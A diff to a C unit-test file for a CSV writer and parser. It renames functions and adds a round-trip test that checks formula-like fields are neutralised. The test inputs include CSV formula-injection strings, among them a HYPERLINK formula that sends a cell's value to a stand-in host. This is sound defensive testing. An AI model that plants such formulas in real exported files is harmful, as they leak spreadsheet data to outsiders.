@@ -184,7 +184,7 @@ START_TEST(csv_caps_the_fields)
 }
 END_TEST
 
-/* s as format_csv_field() or format_csv_number() writes it (static). */
+/* s as csv_write_field() or csv_write_number() writes it (static). */
 static const char *
 field(const char *s, int number)
 {
@@ -192,9 +192,9 @@ field(const char *s, int number)
 	struct buf b = BUF_INIT;
 
 	if (number)
-		format_csv_number(&b, s);
+		csv_write_number(&b, s);
 	else
-		format_csv_field(&b, s);
+		csv_write_field(&b, s);
 	ck_assert(!b.failed);
 	snprintf(out, sizeof(out), "%s", buf_str(&b));
 	buf_free(&b);
@@ -238,6 +238,50 @@ START_TEST(csv_fields_are_neutralised)
 	}
 	ck_assert_str_eq(field(NULL, 0), "");
 	ck_assert_str_eq(field(NULL, 1), "");
+}
+END_TEST
+
+/* What the writer writes, the parser reads back: each text as a field
+ * and as a number, one record each, through csv_parse(); a leading '
+ * is always the writer's (docs/import-export.md), so dropping it gives
+ * the text back. */
+START_TEST(csv_written_fields_read_back)
+{
+	static const char *const texts[] = {
+		"plain", "", "a,b", "dit \"oui\"", "\"", "deux\nlignes",
+		"cr\rseul", "crlf\r\nfin", "=1+1", "-3", "-2.5e-3", "+33 6",
+		"@x", "\tx", "'cité'", "''", "« Autre » ; précisez", " x ",
+		"=HYPERLINK(\"http://x/?\"&A2,\"cliquez\")",
+	};
+	const size_t n = sizeof(texts) / sizeof(texts[0]);
+	struct buf b = BUF_INIT;
+	struct csv *csv = NULL;
+	struct msp_error err;
+	size_t i, j;
+
+	buf_puts(&b, "text,number\r\n");
+	for (i = 0; i < n; i++) {
+		csv_write_field(&b, texts[i]);
+		buf_putc(&b, ',');
+		csv_write_number(&b, texts[i]);
+		buf_puts(&b, "\r\n");
+	}
+	ck_assert(!b.failed);
+	ck_assert_msg(csv_parse(b.data, b.len, ',', &csv, &err) == MSP_OK,
+		      "%s", err.message);
+	ck_assert_uint_eq(csv->n_rows, n + 1);
+	for (i = 0; i < n; i++)
+		for (j = 0; j < 2; j++) {
+			const char *got = csv->rows[i + 1].fields[j];
+
+			if (got[0] == '\'')
+				got++;
+			ck_assert_msg(strcmp(got, texts[i]) == 0,
+				      "case %zu column %zu: got '%s'", i, j,
+				      csv->rows[i + 1].fields[j]);
+		}
+	csv_free(csv);
+	buf_free(&b);
 }
 END_TEST
 
@@ -312,6 +356,7 @@ csv_suite(void)
 	tcase_add_test(tc, csv_errors_name_the_line);
 	tcase_add_test(tc, csv_caps_the_fields);
 	tcase_add_test(tc, csv_fields_are_neutralised);
+	tcase_add_test(tc, csv_written_fields_read_back);
 	tcase_add_test(tc, report_csv_is_neutralised);
 	suite_add_tcase(s, tc);
 	return s;
